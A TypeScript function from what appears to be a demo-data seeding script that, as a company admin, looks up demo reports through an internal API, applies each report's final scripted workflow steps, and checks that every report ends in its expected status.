/** The `lastly` steps of the reports that have them, once everything else is in; each report then ends where its script says. */
export async function takeLastSteps(context: DemoReportsContext): Promise<void> {
  const admin = await context.user('companyAdmin');
  for (const report of DEMO_REPORTS) {
    if (!report.lastly) continue;
    const { results } = await admin.get<{ results: { id: string; title: string }[] }>(`/api/reports?program=${context.programs.get(report.program)}&size=100`);
    const id = results.find((row) => row.title === report.title)?.id;
    if (!id) throw new Error(`demo data: no report ${report.key} to finish`);
    let status: ReportStatus | null = null;
    for (const step of report.lastly) status = (await take(context, report, id, new Map(), step)).status;
    if (status !== report.status) throw new Error(`demo data: report ${report.key} ended ${status}, not ${report.status}`);
  }
}
